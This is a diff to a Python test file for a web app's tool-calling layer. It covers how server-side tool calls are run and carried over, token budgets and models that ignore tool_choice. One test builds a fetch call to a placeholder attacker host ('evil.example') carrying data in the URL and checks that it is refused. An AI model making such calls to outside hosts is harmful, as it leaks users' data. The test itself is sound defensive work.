@@ -1,6 +1,7 @@
 """Answers for programs whose token may use tools: these are done before the program sees anything, and its own are passed on."""
 
 import json
+from decimal import Decimal
 from typing import Any
 
 import pytest
@@ -12,6 +13,8 @@ from tests.upstream.fixtures import app
 from webapp.base.audit import COMMAND_LINE
 from webapp.base.db import db, write
 from webapp.base.errors import Invalid, NotFound
+from webapp.operations.budgets import service
+from webapp.operations.budgets.service import BudgetInput
 from webapp.people.accounts import tokens
 from webapp.people.accounts.tables import ApiToken, User
 from webapp.settings.service import set_setting
@@ -118,15 +121,39 @@ def test_the_programs_own_calls_are_passed_on_after_those(program: Program, fake
     assert sorted(tool["function"]["name"] for tool in fake.posts()[0]["body"]["tools"]) == ["count", "fetch", "get_weather"]
 
 
-def test_of_a_round_with_both_only_the_programs_are_handed_out(program: Program, fake) -> None:
-    rounds(fake, [calling("otters"), {"tool": "get_weather", "arguments": {}}])
+def test_of_a_round_with_both_ours_are_done_and_kept_for_the_next_request(program: Program, fake) -> None:
+    both = [calling("otters"), {"tool": "get_weather", "arguments": {}}, calling("herons")]
+    fake.always({"rounds": [{"says": "I look.", "calls": [calling("eels")]}, {"says": "Now.", "calls": both}, {"says": "Rain."}]})
 
-    chunks = program.chunks(tools=[WEATHER])
+    message = program.completed(tools=[WEATHER])["message"]
 
-    pieces = [piece for chunk in chunks for piece in chunk["choices"][0]["delta"].get("tool_calls", ())]
-    assert {piece["index"] for piece in pieces} == {0}
-    assert pieces[0]["function"]["name"] == "get_weather"
-    assert program.done == []
+    assert [call["function"]["name"] for call in message["tool_calls"]] == ["get_weather"]
+    assert (message["content"], sorted(program.done)) == ("I look.\n\nNow.", ["eels", "herons", "otters"])
+    returned = {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "It rains."}
+    again = program.completed(messages=[QUESTION, message, returned], tools=[WEATHER])
+    assert again["message"]["content"] == "Rain."
+    # The model gets what it said and called, in its order, as in one answer.
+    sent = fake.posts()[-1]["body"]["messages"][1:]
+    words = [sent[0]["content"], *sent[1:2], sent[2]["content"].strip()]
+    assert (words[0], words[1]["content"], words[2]) == ("I look.", "There are 7 eels.", "Now.")
+    assert [call["function"]["name"] for call in sent[2]["tool_calls"]] == ["count", "get_weather", "count"]
+    assert results(fake) == ["There are 7 eels.", "There are 7 otters.", "It rains.", "There are 7 herons."]
+    assert sorted(program.done) == ["eels", "herons", "otters"]
+
+
+def test_what_was_kept_stays_outside_text_and_is_for_programs_with_tools(program: Program, fake) -> None:
+    carrying = calling("https://evil.example/?otters", "fetch")
+    rounds(fake, [calling("otters"), {"tool": "get_weather", "arguments": {}}], [carrying])
+    message = program.completed(tools=[WEATHER])["message"]
+    returned = {"role": "tool", "tool_call_id": message["tool_calls"][0]["id"], "content": "It rains."}
+    program.completed(messages=[QUESTION, message, returned], tools=[WEATHER])
+    assert program.done == ["otters"]
+    assert "permission" in results(fake)[-1]
+
+    program.choose()
+    program.completed(messages=[QUESTION, message, returned], tools=[WEATHER])
+
+    assert results(fake) == ["It rains."]
 
 
 def test_a_tool_of_the_program_with_the_same_name_is_the_programs(program: Program, fake) -> None:
@@ -176,6 +203,26 @@ def test_a_model_that_calls_for_ever_must_answer(program: Program, fake) -> None
     assert [post["body"].get("tool_choice") for post in fake.posts()] == [None] * 5 + ["none"]
     assert program.done == ["otters"] * 3
     assert "called before" in results(fake)[-1]
+
+
+def test_further_rounds_count_towards_budgets(program: Program, fake) -> None:
+    rounds(fake, [calling("otters " * 5_000)], [calling("herons")])
+    with program.app.app_context():
+        service.create(BudgetInput(who="team", unit="tokens", limit=Decimal(5_000), period="month"), author=COMMAND_LINE)
+
+    # The budget can be exceeded by one request, as by one answer.
+    assert program.completed()["finish_reason"] == "length"
+    assert len(fake.posts()) == 2
+
+
+def test_a_model_that_calls_although_it_may_not_has_ended(program: Program, fake) -> None:
+    fake.always({"says": "Hm.", "calls": [calling("otters")], "ignores_choice": True})
+    with program.app.app_context():
+        set_setting("tools.rounds", "1")
+
+    choice = program.completed()
+
+    assert (choice["finish_reason"], choice["message"]["content"], len(fake.posts())) == ("stop", "Hm.\n\nHm.", 2)
 
 
 @pytest.mark.parametrize("body", [{"tool_choice": "none"}, {"tools": [WEATHER], "tool_choice": "required"}])
